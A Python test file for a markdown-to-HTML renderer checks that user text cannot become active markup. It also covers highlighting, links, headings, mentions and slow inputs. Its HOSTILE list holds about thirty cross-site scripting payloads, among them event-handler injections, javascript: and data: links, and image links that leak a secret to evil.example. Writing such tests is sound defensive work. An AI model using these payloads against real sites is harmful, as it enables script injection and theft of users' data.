# ruff: noqa: E501  (a corpus reads best one payload after the other)
from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rooms import markup

ALLOWED_SCHEMES = ("http://", "https://", "mailto:")


class Inspector(HTMLParser):
    """Reads drawn HTML as a browser's tokenizer would and notes whatever should not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.violations: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in markup.TAGS:
            self.violations.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "src", "srcset", "id"):
                self.violations.append(f"{tag} {name}")
            if name == "href" and not (value or "").lower().startswith(ALLOWED_SCHEMES):
                self.violations.append(f"href {value}")

    def handle_comment(self, data: str) -> None:
        self.violations.append("comment")


def violations(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.violations


HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox(1))", "<javascript:alert(1)>",
    "![x](https://evil.example/?d=secret)", "![x][r]\n\n[r]: https://evil.example/p.png", "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))", "[x](//evil.example)", "[x](/admin/logout)", "<a href='javascript:alert(1)'>x</a>",
    "`<script>`", "```html\n<script>alert(1)</script>\n```", "```\" onmouseover=\"alert(1)\nx\n```", "<iframe src=//evil.example>",
    "<style>*{display:none}</style>", "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">", "[x](https://a\"onclick=alert(1))",
    "[a](<javascript:alert(1)>)", "@<img>", "| a |\n|:-:|\n| <b>x</b> |", "<!--><img src=x onerror=alert(1)>-->", "<details open ontoggle=alert(1)>",
    "[x](https://example.com \"t\" onmouseover=alert(1))", "[<script>](https://x.example)", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=\"https://x.example\" target=_top>x</a>", "\u202e<script>", "<scr\x01ipt>alert(1)</scr\x01ipt>", "[x]: javascript:alert(1)\n\n[x]",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_text_becomes_more_than_text(text: str) -> None:
    for piece in (text, text * 3, f"> {text}", f"- {text}", f"# {text}", f"**{text}**", f"@bob {text}"):
        assert violations(markup.render(piece, {"bob"})) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_cut_at_any_place_stays_text(text: str) -> None:
    for cut in range(len(text)):
        assert violations(markup.render(text[:cut])) == []
        assert violations(markup.render(text[cut:])) == []


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab1 @_-*`<>[]()!#|~:/.\"'&\\\n\t;=%é…–")), max_size=80))
def test_whatever_is_typed_is_drawn_safely(text: str) -> None:
    assert violations(markup.render(text, {"a", "ab"})) == []


@settings(max_examples=500, deadline=None)
@given(st.from_regex(markup.PLAIN, fullmatch=True))
def test_the_short_way_for_plain_text_draws_what_the_long_way_draws(text: str) -> None:
    if markup.is_plain(text):
        assert markup.render(text) == markup.sanitize(markup.parser().render(text, {})).strip()


def test_code_is_coloured_and_tables_are_aligned_without_inline_style() -> None:
    html = markup.render("```python\ndef f(): return 1\n```\n\n| a |\n|--:|\n| 1 |")
    assert '<span class="hl-k">def</span>' in html
    assert '<td class="align-right">1</td>' in html
    assert "style=" not in html


def test_addresses_become_links_that_give_nothing_away() -> None:
    assert markup.render("see https://example.org/a") == (
        '<p>see <a href="https://example.org/a" rel="noopener noreferrer nofollow ugc">https://example.org/a</a></p>'
    )


def test_headings_stay_below_those_of_the_page() -> None:
    assert markup.render("# Big") == "<h3>Big</h3>"


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("@ada and @Bob.", ["ada", "bob"]),
        ("`@ada` @bob", ["bob"]),
        ("```\n@ada\n```\n@bob", ["bob"]),
        ("mail ada@example.org", []),
        ("[@ada](https://x.example)", []),
        ("(@ada)", ["ada"]),
        ("@ada @ada", ["ada"]),
        ("@", []),
        ("nobody", []),
        ("@ada's idea", ["ada"]),
        ("**@ada**", ["ada"]),
    ],
)
def test_mentions_are_names_outside_code_and_links(text: str, names: list[str]) -> None:
    assert markup.mentions_in(text) == names


@pytest.mark.parametrize(
    "text",
    ["a" + "\u0301" * 10_000, "[" * 8_000, ">" * 8_000, "`" * 8_000, "*a " * 4_000, "| a " * 4_000, "- " * 4_000],
)
def test_texts_made_to_be_slow_are_drawn_all_the_same(text: str) -> None:
    assert violations(markup.render(text)) == []
